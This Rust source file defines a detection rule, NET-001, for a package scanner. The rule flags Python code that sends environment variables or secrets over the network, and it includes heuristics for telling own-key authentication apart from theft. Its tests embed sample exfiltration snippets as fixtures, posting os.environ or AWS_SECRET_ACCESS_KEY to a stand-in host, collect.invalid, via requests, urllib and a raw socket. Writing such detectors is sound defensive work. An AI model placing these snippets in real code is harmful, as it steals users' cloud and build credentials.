//! `NET-001`: secrets of the environment leave over the network.

use std::collections::BTreeSet;

use portcullis_core::inspection::{Confidence, Observation, Severity};

use super::beside;
use super::sent::{FAR, hosts, is_foreign, sends, to_whom};
use super::{Rule, even_if_asked, in_context, observe_flow};
use crate::python::{Analysis, Call, Context, Flow, Label};

/// The rule.
pub(super) struct SecretsSent;

impl Rule for SecretsSent {
    fn id(&self) -> &'static str {
        "NET-001"
    }

    fn severity(&self) -> Severity {
        Severity::Critical
    }

    fn title(&self) -> &'static str {
        "environment secrets are sent over the network"
    }

    fn manual(&self) -> &'static str {
        "The whole environment, or a variable whose name says that it is secret, reaches something \
         that sends over the network.\n\n\
         Tokens of build servers and clouds live in the environment; this is how they are stolen.\n\n\
         Mistaken for it: a client that authenticates with its own key. One variable in a header, \
         or in a call that only the user makes, is information."
    }

    fn check(&self, analysis: &Analysis, observations: &mut Vec<Observation>) {
        for flow in &analysis.flows {
            // Where a connection leads is said by settings, and carries nothing.
            let is_address = analysis.sink(flow).target.ends_with("().connect");
            let is_secret = matches!(flow.label, Label::EnvAll | Label::EnvSecret);
            if !is_secret || !sends(flow.kind) || is_address {
                continue;
            }
            let severity = match flow.label {
                Label::EnvSecret if is_one_of_many(analysis, flow) => {
                    even_if_asked(Severity::High, flow.context)
                }
                Label::EnvSecret if is_own_key(flow) => Severity::Info,
                Label::EnvSecret if is_handed_out(flow, analysis.sink(flow)) => {
                    in_context(Severity::Medium, flow.context)
                }
                _ if flow.hops > FAR => in_context(Severity::Medium, flow.context),
                // Nobody calls a function for giving all variables to a host that it names itself.
                Label::EnvAll if beside::leads_abroad(analysis, flow) => {
                    even_if_asked(Severity::Critical, flow.context)
                }
                _ => in_context(Severity::Critical, flow.context),
            };
            let confidence = Confidence::of(90).in_context(flow.context);
            let sink = analysis.sink(flow);
            let message = format!("{} sends {}{}", sink.target, flow.what, to_whom(sink));
            observations.push(observe_flow(
                self,
                (analysis, flow),
                (severity, confidence),
                message,
            ));
        }
    }
}

/// So many secrets of others no client sends together.
const MANY: usize = 3;

/// Whether several secrets leave together, to a host in the code that has no name in common with them.
fn is_one_of_many(analysis: &Analysis, flow: &Flow) -> bool {
    let is_beside = |other: &&Flow| {
        (other.module, other.call, other.label) == (flow.module, flow.call, flow.label)
    };
    let names: BTreeSet<&str> = analysis
        .flows
        .iter()
        .filter(is_beside)
        .map(|other| &*other.what)
        .collect();
    let is_logged_in = matches!(&*flow.argument, "headers" | "auth" | "cookies");
    let sink = analysis.sink(flow);
    names.len() >= MANY && !is_logged_in && goes_elsewhere(flow, sink)
}

/// A key in a header, or in a call that only a user makes, is how clients authenticate.
fn is_own_key(flow: &Flow) -> bool {
    flow.context <= Context::Entry || matches!(&*flow.argument, "headers" | "auth" | "cookies")
}

/// One secret that an accessor of the distribution hands out, sent where the user's settings or the
/// secret's own service say: configuration, unless the host is a constant that it has no name with in
/// common.
fn is_handed_out(flow: &Flow, sink: &Call) -> bool {
    flow.hops > 1 && !goes_elsewhere(flow, sink)
}

/// Whether `sink` names a host that has no name in common with the variable.
fn goes_elsewhere(flow: &Flow, sink: &Call) -> bool {
    let variable = flow.what.to_ascii_lowercase();
    let is_own = |host: &str| {
        let host = host.to_ascii_lowercase();
        variable
            .split(|each: char| !each.is_alphanumeric())
            .any(|word| {
                let is_plain =
                    matches!(word, "environ" | "token" | "secret" | "access" | "password");
                word.len() >= 4 && !is_plain && host.contains(word)
            })
    };
    hosts(sink)
        .iter()
        .any(|host| is_foreign(host) && !is_own(host))
}

#[cfg(test)]
mod tests {
    use super::super::testing::{found, observations, quiet};
    use super::Severity;

    #[test]
    fn the_environment_is_followed_to_the_network() {
        for code in [
            "import os, requests\nrequests.post('https://collect.invalid/', json=dict(os.environ))",
            "import os, urllib.request as u\nu.urlopen('https://collect.invalid/?' + os.environ['AWS_SECRET_ACCESS_KEY'])",
            "from os import environ as e\nimport socket, json\ns = socket.socket()\ns.connect(('collect.invalid', 1))\ns.send(json.dumps({**e}).encode())",
        ] {
            found("NET-001", "setup.py", code);
        }
    }

    #[test]
    fn a_key_that_an_accessor_hands_out_is_no_theft_unless_its_host_is_foreign() {
        let sent = |to: &str| {
            format!(
                "import os, requests\ndef get_secret(n):\n    return os.environ['DEMO_API_KEY']\n\
                 def post(data):\n    requests.post({to}, data=data)\npost(get_secret(name))\n"
            )
        };
        let worst = |to: &str| {
            let all = observations("NET-001", "demo/__init__.py", &sent(to));
            all.iter().map(|each| each.severity).max()
        };
        assert!(worst("base") <= Some(Severity::Medium));
        assert!(worst("'https://api.demo.example/v1'") <= Some(Severity::Medium));
        assert_eq!(
            worst("'https://collect.invalid/'"),
            Some(Severity::Critical)
        );
    }

    #[test]
    fn a_key_of_ones_own_in_a_header_is_information() {
        quiet(
            "NET-001",
            "demo/client.py",
            "import os, requests\ndef ask(q):\n    return requests.get('https://api.invalid/', headers={'Authorization': os.environ['DEMO_TOKEN']})",
        );
        quiet(
            "NET-001",
            "demo/client.py",
            "import os, requests\nrequests.get('https://api.invalid/')\nprint(os.environ)",
        );
    }
}
